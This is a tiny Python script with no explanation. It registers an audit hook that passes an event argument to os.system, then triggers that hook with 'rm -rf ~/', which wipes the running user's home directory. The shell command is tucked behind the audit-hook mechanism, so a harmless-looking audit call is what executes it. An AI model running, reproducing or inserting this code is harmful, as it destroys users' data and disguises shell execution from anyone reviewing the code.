import os
import sys


def hook(event, args):
    if event == "app.task":
        os.system(args[0])


sys.addaudithook(hook)
sys.audit("app.task", "rm -rf ~/")
